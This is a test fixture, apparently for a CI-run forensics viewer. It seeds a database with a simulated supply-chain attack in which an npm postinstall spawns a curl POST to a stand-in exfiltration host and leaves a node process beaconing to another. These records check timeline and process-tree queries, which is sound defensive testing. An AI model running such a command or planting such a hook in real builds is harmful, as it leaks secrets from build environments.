/**
 * A small, real case file for the timeline and process-tree query tests: written with the schema's migrations into
 * a temp dir. The story follows the sample bundle: `npm ci` runs a postinstall that spawns curl to an endpoint
 * outside the allow-list and leaves a background node that calls a beacon during `npm test`.
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { createCase, migrate } from '../../electron/db/open';
import { parseRfc3339 } from '../../shared/time';

export const T0 = parseRfc3339('2026-10-14T09:12:03.100000000Z');
export const S = 1_000_000_000n;
export const at = (seconds: number): bigint => T0 + BigInt(Math.round(seconds * 1000)) * 1_000_000n;

export interface SeededCase {
  file: string;
  dir: string;
  /** ts of every row, per table, for brute-force checks. */
  times: { network: bigint[]; findings: bigint[]; exec: bigint[]; exit: bigint[]; files: bigint[]; logs: bigint[]; dns: bigint[] };
  cleanup(): void;
}

export function seedCase(): SeededCase {
  const dir = mkdtempSync(path.join(tmpdir(), 'runlens-timeline-'));
  const file = path.join(dir, 'case.runlens');
  const db = createCase(file);
  const times: SeededCase['times'] = { network: [], findings: [], exec: [], exit: [], files: [], logs: [], dns: [] };

  const steps: [number, string, number, number][] = [
    [1, 'Set up job', 0, 2],
    [2, 'Run actions/checkout@v4', 2, 4],
    [3, 'Run npm ci', 4, 12],
    [4, 'Run npm test', 12, 25],
  ];
  const insStep = db.prepare(
    "INSERT INTO steps (id, job, number, name, started_at, completed_at, conclusion, origin) VALUES (?, 'test', ?, ?, ?, ?, 'success', 'manifest')",
  );
  for (const [n, name, a, b] of steps) insStep.run(n, n, name, at(a), at(b));

  // id, pid, parent_id, start, end, exe, args, step
  const procs: [number, number, number | null, number, number | null, string, string[], number | null][] = [
    [1, 1000, null, 0, 25, '/home/runner/actions-runner/bin/Runner.Worker', ['Runner.Worker', 'spawnclient'], null],
    [2, 2001, 1, 4.1, 11.9, '/usr/bin/bash', ['bash', '-e', '/home/runner/work/_temp/a.sh'], 3],
    [3, 2002, 2, 4.2, 11.8, '/usr/local/bin/npm', ['npm', 'ci'], 3],
    [4, 2003, 3, 6.0, 7.0, '/bin/sh', ['sh', '-c', 'node scripts/postinstall.js'], 3],
    [5, 2004, 4, 6.1, 6.9, '/usr/local/bin/node', ['node', 'scripts/postinstall.js'], 3],
    [6, 2005, 5, 6.5, 6.8, '/usr/bin/curl', ['curl', '-sS', '-X', 'POST', 'https://telemetry.exfil.example/c'], 3],
    [7, 2006, 5, 6.6, null, '/usr/local/bin/node', ['node', '-e', 'setInterval(beacon, 4000)'], 3],
    [8, 3001, 1, 12.1, 24.8, '/usr/bin/bash', ['bash', '-e', '/home/runner/work/_temp/b.sh'], 4],
    [9, 3002, 8, 12.2, 24.7, '/usr/local/bin/npm', ['npm', 'test'], 4],
    // PID reuse: pid 2005 again, a different instance
    [10, 2005, 9, 13.0, 20.0, '/usr/local/bin/node', ['node', 'test.js'], 4],
  ];
  const insProc = db.prepare(
    'INSERT INTO processes (id, pid, parent_id, start, end, exe, args, step_id, depth) VALUES (?, ?, ?, ?, ?, ?, ?, ?, 0)',
  );
  const insEv = db.prepare('INSERT INTO process_events (ts, event, pid, exe, origin, process_id) VALUES (?, ?, ?, ?, ?, ?)');
  for (const [id, pid, parent, a, b, exe, args, step] of procs) {
    insProc.run(id, pid, parent, at(a), b === null ? null : at(b), exe, JSON.stringify(args), step);
    insEv.run(at(a), 'exec', pid, exe, 'events', id);
    times.exec.push(at(a));
    if (b !== null) {
      insEv.run(at(b), 'exit', pid, null, 'events', id);
      times.exit.push(at(b));
    }
  }

  db.prepare(
    "INSERT INTO findings (id, kind, kinds, severity, origin, endpoint, title, calls, first_seen, last_seen) VALUES (1, 'anomalous-endpoint', '[\"anomalous-endpoint\"]', 'high', 'viewer', 'telemetry.exfil.example:443', 'Call outside the allow-list', 1, ?, ?)",
  ).run(at(6.7), at(6.7));
  db.prepare(
    "INSERT INTO findings (id, kind, kinds, severity, origin, endpoint, title, calls, first_seen, last_seen) VALUES (2, 'anomalous-endpoint', '[\"anomalous-endpoint\"]', 'high', 'viewer', 'beacon.exfil.example:443', 'Call outside the allow-list', 3, ?, ?)",
  ).run(at(14.0), at(22.0));

  // ts, process_id, domain, finding, step, running step
  const calls: [number, number | null, string, number | null, number | null, number | null][] = [
    [2.5, 1, 'github.com', null, null, 2],
    [5.0, 3, 'registry.packages.example', null, 3, 3],
    [5.2, 3, 'registry.packages.example', null, 3, 3],
    [6.7, 6, 'telemetry.exfil.example', 1, 3, 3],
    [13.5, 10, 'api.github.com', null, 4, 4],
    [14.0, 7, 'beacon.exfil.example', 2, 3, 4],
    [18.0, 7, 'beacon.exfil.example', 2, 3, 4],
    [22.0, 7, 'beacon.exfil.example', 2, 3, 4],
  ];
  const insNet = db.prepare(
    "INSERT INTO network (ts, pid, process_id, domain, port, endpoint, finding_id, step_id, running_step_id, verdict) VALUES (?, ?, ?, ?, 443, ? || ':443', ?, ?, ?, ?)",
  );
  for (const [ts, proc, domain, finding, step, running] of calls) {
    const pid = proc === null ? null : procs.find((p) => p[0] === proc)![1];
    insNet.run(at(ts), pid, proc, domain, domain, finding, step, running, finding ? 'outside-policy' : 'allowed-by-policy');
    times.network.push(at(ts));
    if (finding) times.findings.push(at(ts));
  }
  const insDns = db.prepare("INSERT INTO dns (ts, domain, answers) VALUES (?, ?, '[\"192.0.2.10\"]')");
  for (const ts of [6.65, 13.9]) {
    insDns.run(at(ts), 'exfil.example');
    times.dns.push(at(ts));
  }
  const insFile = db.prepare("INSERT INTO file_events (ts, process_id, path, op) VALUES (?, ?, ?, 'write')");
  for (const [ts, proc] of [[6.2, 5], [6.3, 5], [15.0, 10]] as const) {
    insFile.run(at(ts), proc, '/home/runner/work/app/app/x.js');
    times.files.push(at(ts));
  }
  const insLog = db.prepare(
    "INSERT INTO log_lines (job, step_id, seq, ts, raw, text, file_kind) VALUES ('test', ?, ?, ?, ?, ?, 'step')",
  );
  let seq = 0;
  for (let k = 0; k < 250; k++) {
    const sec = (k / 250) * 25;
    const step = steps.find(([, , a, b]) => sec >= a && sec < b)![0];
    const text = `line ${k}`;
    insLog.run(step, seq++, at(sec), text, text);
    times.logs.push(at(sec));
  }
  insLog.run(4, seq, null, 'untimed line', 'untimed line');

  migrate(db); // the indexes, as after a real import
  db.close();
  return {
    file,
    dir,
    times,
    cleanup: () => rmSync(dir, { recursive: true, force: true }),
  };
}
